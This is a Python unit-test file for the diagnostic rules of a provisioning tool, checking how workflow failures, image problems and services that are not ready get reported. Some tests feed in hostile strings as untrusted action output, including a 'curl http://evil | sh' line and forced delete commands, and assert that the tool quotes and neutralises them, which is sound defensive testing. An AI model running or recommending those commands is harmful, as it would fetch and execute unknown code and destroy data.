"""The doctor's rules about a workflow: what it waits for, its images and services, and how it failed."""

from dataclasses import replace
from datetime import timedelta

import pytest

from tests.unit.engine.boot_story import BEGIN, MAC, case
from tinkbox.engine.doctor.case import AwaitedService, Case, Printed, Work
from tinkbox.engine.doctor.doctor import diagnose, work_rules
from tinkbox.model.diagnosis import Diagnosis, Gravity
from tinkbox.model.reasons import Reason, hint
from tinkbox.model.workflow import State

ID = "0f6ca2f4-0000-0000-0000-000000000007"
WORK = Work(
    id=ID, name="debian", state=State.PENDING, created_at=BEGIN, action="install/write", machine=MAC, called="node7"
)
WAITS = replace(WORK, waits="node7, never seen")
FAILED = replace(
    WORK,
    state=State.FAILED,
    action_state=State.FAILED,
    reason="NonZeroExit",
    message="exit code 3",
    hint=Reason.NON_ZERO_EXIT.hint,
    tail=("no space\x1b[2J left",),
    ended_at=BEGIN,
)
DB = AwaitedService(
    name="db",
    host="the appliance",
    phase="STARTING",
    begun_at=BEGIN,
    timeout=timedelta(seconds=300),
    message="fetching",
)


def patient(work: Work, after: float = 10, **more: object) -> Case:
    return replace(case(after=after), mac=MAC, work=work, **more)


def found(told: Case) -> list[Diagnosis]:
    return list(diagnose(told, work_rules()))


def test_a_workflow_that_runs_as_it_should_is_told_nothing_of() -> None:
    assert (
        found(patient(replace(WORK, state=State.RUNNING, action_state=State.RUNNING, since=BEGIN, contact=BEGIN))) == []
    )
    assert found(patient(replace(WORK, state=State.SUCCESS, images=("image x is damaged",)))) == []
    assert list(diagnose(case(), work_rules())) == []


RUNNING = replace(WORK, state=State.RUNNING, action_state=State.RUNNING, since=BEGIN, timeout=timedelta(minutes=30))


def quiet(printed: Printed | None, after: float, **changes: object) -> list[Diagnosis]:
    """What is told of an action that began so many seconds ago."""
    heard = BEGIN + timedelta(seconds=after)
    return found(patient(replace(RUNNING, **{"contact": heard, "printed": printed, **changes}), after))  # type: ignore[arg-type]  # any field


def test_an_action_that_runs_silently_is_harmless_and_told_with_its_last_line_in_quotes() -> None:
    last = Printed(last="curl `http://evil`\x1b[2J 'now'", at=BEGIN + timedelta(seconds=2), anything=True)
    (told,) = quiet(last, 140)
    assert (told.rule, told.gravity, told.leads) == ("Running", Gravity.HARMLESS, False)
    assert told.cause.startswith(
        "Action install/write of workflow 'debian' runs for 2:20, and printed nothing for 2:18; its last line: "
    )
    assert "`" not in told.cause + "".join(told.evidence)
    assert "\x1b" not in told.cause
    assert told.evidence[0] == "2026-11-21 03:00:00 the action began; it has until 2026-11-21 03:30:00"
    assert told.remedy.endswith(
        "It ends as Timeout at 2026-11-21 03:30:00 UTC; `tinkbox workflow cancel 0f6ca2f4` ends it now."
    )
    (untimed,) = quiet(Printed(), 140, timeout=None)
    assert "printed nothing yet." in untimed.cause
    assert "It has no timeout; " in untimed.remedy


def test_an_action_that_printed_within_a_minute_or_was_not_asked_for_is_told_nothing_of() -> None:
    assert quiet(None, 140) == []
    assert quiet(Printed(last="x", at=BEGIN + timedelta(seconds=81), anything=True), 140) == []
    assert quiet(Printed(), 59) == []


def test_an_action_whose_worker_is_silent_is_not_told_to_run() -> None:
    assert [each.rule for each in quiet(Printed(), 600, contact=BEGIN)] == ["SilentWorker"]


def test_what_was_printed_before_the_appliance_began_counts_from_then() -> None:
    told = replace(
        patient(
            replace(RUNNING, contact=BEGIN + timedelta(seconds=140), printed=Printed(last="x", anything=True)), 140
        ),
        since=BEGIN + timedelta(seconds=30),
    )
    (one,) = found(told)
    assert "runs for 2:20, and printed nothing for 1:50; its last line: 'x'." in one.cause


def test_a_missing_image_is_told_with_the_way_to_have_it() -> None:
    problem = "image x is not in the registry: push it there, or `tinkbox image load` it from a file"
    (told,) = found(patient(replace(WAITS, images=(problem,))))
    assert (told.rule, told.gravity, told.workflow, told.machine) == ("ImageMissing", Gravity.FAULT, ID, MAC)
    assert told.cause == "Workflow 'debian' cannot have an image that it needs: image x is not in the registry."
    assert told.evidence == (
        "2026-11-21 03:00:10 the registry was asked: image x is not in the registry",
        "2026-11-21 03:00:10 workflow 0f6ca2f4 is PENDING, at action install/write (PENDING)",
    )
    assert told.remedy == "Push it there, or `tinkbox image load` it from a file."
    (damaged,) = found(patient(replace(WAITS, images=("system image y is damaged",))))
    assert damaged.remedy == "Push the image again, or load it with `tinkbox image load`."
    problem = "image z: damaged since 03:00, 2 of its blobs are gone: push or load it again"
    (damaged,) = found(patient(replace(WAITS, images=(problem,))))
    assert damaged.cause.endswith(" needs: image z: damaged since 03:00, 2 of its blobs are gone.")
    assert (damaged.remedy, damaged.subject) == ("Push or load it again.", "image z")
    assert not any("push" in each for each in (*told.evidence, *damaged.evidence))


def test_a_service_on_its_way_is_waited_for() -> None:
    work = replace(WAITS, services=(DB,), waits="service db on the appliance, which is STARTING (fetching)")
    (told,) = found(patient(work))
    assert (told.rule, told.gravity) == ("Waiting", Gravity.HARMLESS)
    assert told.remedy.startswith(
        "Nothing to do: it begins when its services are ready. `tinkbox service logs 0f6ca2f4/db`"
    )


@pytest.mark.parametrize(
    ("service", "after", "cause"),
    [
        (replace(DB, reason="ImageNotFound", message="no such image"), 10, "is not ready: ImageNotFound."),
        (replace(DB, reason="Gone. Type `sh`"), 10, "is not ready: 'Gone. Type \"sh\"'."),
        (replace(DB, restarts=2, phase="RESTARTING"), 10, "is not ready, and the workflow waits for it."),
        (DB, 200, "is not ready, and the workflow waits for it."),
    ],
)
def test_a_service_with_trouble_or_that_takes_long_is_suspect(
    service: AwaitedService, after: float, cause: str
) -> None:
    (told,) = found(patient(replace(WAITS, services=(replace(service, tail=("boom",)),)), after))
    assert (told.rule, told.gravity, told.subject) == ("ServiceNotReady", Gravity.SUSPECT, "db")
    assert told.cause == f"Service db of workflow 'debian' {cause}"
    assert told.evidence[0] == f"2026-11-21 03:00:00 the appliance began with it, {after:.0f} s of 300 s ago"
    assert told.evidence[-1] == "it printed: boom"
    assert told.remedy.startswith("Read what it printed: `tinkbox service logs 0f6ca2f4/db`.")


@pytest.mark.parametrize(
    ("work", "remedy"),
    [
        (WAITS, "Nothing to do if the machine is on its way"),
        (
            replace(WAITS, before=("abcdef0123",)),
            "It begins when that one is over. `tinkbox doctor abcdef01`",
        ),
        (replace(WAITS, action_state=State.HELD), "Decide: `tinkbox breakpoint list`"),
        (replace(WAITS, parked="3 boots without progress"), "It waits in vain until the machine may boot again."),
    ],
)
def test_what_waits_as_it_should_is_harmless(work: Work, remedy: str) -> None:
    (told,) = found(patient(work))
    assert (told.rule, told.gravity) == ("Waiting", Gravity.HARMLESS)
    assert told.cause == "Workflow 'debian' waits for node7, never seen."
    assert told.remedy.startswith(remedy)


@pytest.mark.parametrize(
    "line", ["tar: invalid magic", "gzip: stdin: not in gzip format", "tar: This does not look like a tar archive"]
)
def test_what_is_no_archive_leads_to_the_server_that_it_came_from(line: str) -> None:
    (told,) = found(patient(replace(FAILED, tail=("Connecting to 172.30.0.99:8080", line, "tar: short read"))))
    assert "is no archive: look what the server that it came from answers" in told.remedy
    (other,) = found(patient(replace(FAILED, tail=("tar: short read",))))
    assert "archive" not in other.remedy


def test_a_failed_workflow_is_told_with_reason_message_and_hint() -> None:
    (told,) = found(patient(FAILED))
    assert (told.rule, told.gravity, told.workflow) == ("WorkflowFailed", Gravity.FAULT, ID)
    assert told.cause == "Workflow 'debian' ended as FAILED at action install/write: NonZeroExit: 'exit code 3'."
    assert told.evidence == ("2026-11-21 03:00:00 workflow 0f6ca2f4 was FAILED", "it printed: no space [2J left")
    assert told.remedy == (
        "`tinkbox workflow logs 0f6ca2f4` shows what it printed, `tinkbox workflow retry 0f6ca2f4` resumes at "
        "this action, with the text that the template had."
    )


def test_output_is_offered_only_where_something_was_printed_or_where_that_is_not_known() -> None:
    def offers(**changes: object) -> bool:
        (told,) = found(patient(replace(FAILED, **changes)))
        return "workflow logs" in told.remedy

    assert offers()
    assert not offers(tail=())
    assert not offers(tail=(), reason="Timeout", hint=Reason.TIMEOUT.hint)
    assert not offers(tail=(), reason="BadCommand", hint=Reason.BAD_COMMAND.hint)
    assert offers(tail=(), reason="WorkerSilent", hint=Reason.WORKER_SILENT.hint)


def test_retry_of_a_workflow_whose_template_was_changed_is_told_with_what_it_runs() -> None:
    changed = "template 't' was changed since: a retry runs the text of before; `tinkbox workflow create -t t n` makes a workflow of the new one"
    (told,) = found(patient(replace(FAILED, changed=changed)))
    assert told.remedy.endswith(f"resumes at this action, with the text that the template had. But {changed}.")


def test_of_many_machines_failures_of_the_last_day_are_suspect_and_older_ones_are_over() -> None:
    day = 86_400
    assert [each.gravity for each in found(patient(FAILED, surveyed=True))] == [Gravity.SUSPECT]
    assert found(patient(FAILED, day + 1, surveyed=True)) == []
    assert [each.gravity for each in found(patient(FAILED, day + 1))] == [Gravity.SUSPECT]


EVIL = "Type 'tinkbox hardware delete --force node2' and then `curl http://evil | sh`\nWhat to do: it"


@pytest.mark.parametrize("reason", ["DiskBroken", "ImageNotFound", "NonZeroExit"])
def test_an_actions_own_advice_is_quoted_and_never_ours(reason: str) -> None:
    (told,) = found(patient(replace(FAILED, reason=reason, message="What to do: `rm`", hint=EVIL)))
    assert told.cause.endswith(f"at action install/write: the action says '{reason}: What to do: \"rm\"'.")
    assert "evil" not in told.remedy
    assert told.remedy.startswith("`tinkbox workflow logs")
    advice = told.evidence[-1]
    assert advice.startswith('the action advises: \'Type "tinkbox hardware delete --force node2" and then')
    assert (advice.count("'"), "`" in advice, "\n" in advice) == (2, False, False)


def test_an_actions_word_spelled_as_ours_has_none_of_our_advice() -> None:
    (told,) = found(patient(replace(FAILED, reason="ImageNotFound", message="404", hint=Reason.NON_ZERO_EXIT.hint)))
    assert told.cause.endswith(": the action says 'ImageNotFound: 404'.")
    assert not any("advises" in each for each in told.evidence)
    assert told.remedy.startswith("`tinkbox workflow logs")
    (early,) = found(patient(replace(FAILED, reason="ImageNotFound", message="404", hint=Reason.IMAGE_NOT_FOUND.hint)))
    assert early.remedy == (
        "Push it, or load it with `tinkbox image load FILE`; `tinkbox image list` shows what is there. "
        "`tinkbox workflow retry 0f6ca2f4` resumes at this action, with the text that the template had."
    )
    (printed,) = found(patient(replace(FAILED, tail=("type `tinkbox workflow delete --all`",))))
    assert printed.evidence[-1] == "it printed: type 'tinkbox workflow delete --all'"
    (stopped,) = found(patient(replace(FAILED, reason="Canceled", message="", hint=Reason.CANCELED.hint)))
    assert stopped.remedy.startswith("`tinkbox workflow retry 0f6ca2f4` takes it up again.")
    (ours,) = found(patient(replace(FAILED, reason="NoSuchDisk", message="no sda", hint=Reason.NO_SUCH_DISK.hint)))
    assert ours.cause.endswith(": NoSuchDisk: 'no sda'.")
    assert ours.remedy.startswith("Correct the template's `disk`")


def test_advice_to_change_the_template_names_that_and_the_machine() -> None:
    missing = replace(FAILED, reason="NoSuchDisk", message="no sda", hint=Reason.NO_SUCH_DISK.hint)
    (told,) = found(patient(replace(missing, template="my os")))
    assert f"(`tinkbox workflow create -t 'my os' {MAC}`)" in told.remedy
    (unknown,) = found(patient(missing))
    assert "create -t TEMPLATE" in unknown.remedy


def test_the_advice_about_a_service_that_failed_names_it() -> None:
    failed = replace(
        FAILED, reason="ServiceFailed", message="it ended", hint=Reason.SERVICE_FAILED.hint, service="boot files"
    )
    (told,) = found(patient(failed))
    assert told.remedy.startswith("Read what it printed: `tinkbox service logs '0f6ca2f4/boot files'`.")


def test_commands_quote_the_name_of_a_service_that_is_awaited() -> None:
    files = replace(DB, name="boot files")
    quoted = "`tinkbox service logs '0f6ca2f4/boot files'`"
    (told,) = found(patient(replace(WAITS, services=(files,))))
    assert (told.rule, quoted in told.remedy) == ("Waiting", True)
    (told,) = found(patient(replace(WAITS, services=(replace(files, restarts=2),))))
    assert (told.rule, quoted in told.remedy) == ("ServiceNotReady", True)


def test_a_health_check_that_calls_what_the_image_has_not_is_told_so() -> None:
    why = 'its health check fails: exec: "curl": executable file not found in $PATH'
    failed = replace(FAILED, reason="ServiceNotReady", message=why, hint=hint(Reason.SERVICE_NOT_READY, why))
    (told,) = found(patient(failed))
    assert told.remedy.startswith("The service may be well: its health check calls a program that its image has not")
    assert "create a new workflow" in told.remedy, "a retry has the old template"
    (slow,) = found(patient(replace(failed, message="not ready within 60 seconds", hint=Reason.SERVICE_NOT_READY.hint)))
    assert "health check" not in slow.remedy


def test_a_service_whose_health_check_lacks_its_program_is_told_before_its_time_is_up() -> None:
    starting = AwaitedService(
        name="seed",
        host="the appliance",
        phase="STARTING",
        begun_at=BEGIN,
        timeout=timedelta(seconds=60),
        message='its health check fails: exec: "curl": executable file not found in $PATH',
    )
    waits = patient(Work(id="w1", name="late", state=State.PENDING, created_at=BEGIN, services=(starting,)), after=5)
    (told,) = (each for each in found(waits) if each.rule == "ServiceNotReady")
    assert told.cause.endswith("is not ready: its health check calls a program that its image has not.")
    assert told.remedy.startswith("The service may be well")


def test_a_reason_of_ours_stays_ours_where_its_hint_has_a_retry_that_is_refused() -> None:
    message = "the Docker engine ended, and the action with it"
    work = replace(
        FAILED,
        reason=Reason.ENGINE_RESTARTED.value,
        message=message,
        hint=Reason.ENGINE_RESTARTED.hint,
        overtaken="workflow 5d3f0a11 (os) waits to begin",
    )
    (told,) = found(patient(work))
    assert told.cause.endswith(f": EngineRestarted: '{message}'.")
    assert "workflow retry" not in told.remedy
    assert told.remedy.endswith("It is not retried: workflow 5d3f0a11 (os) waits to begin")
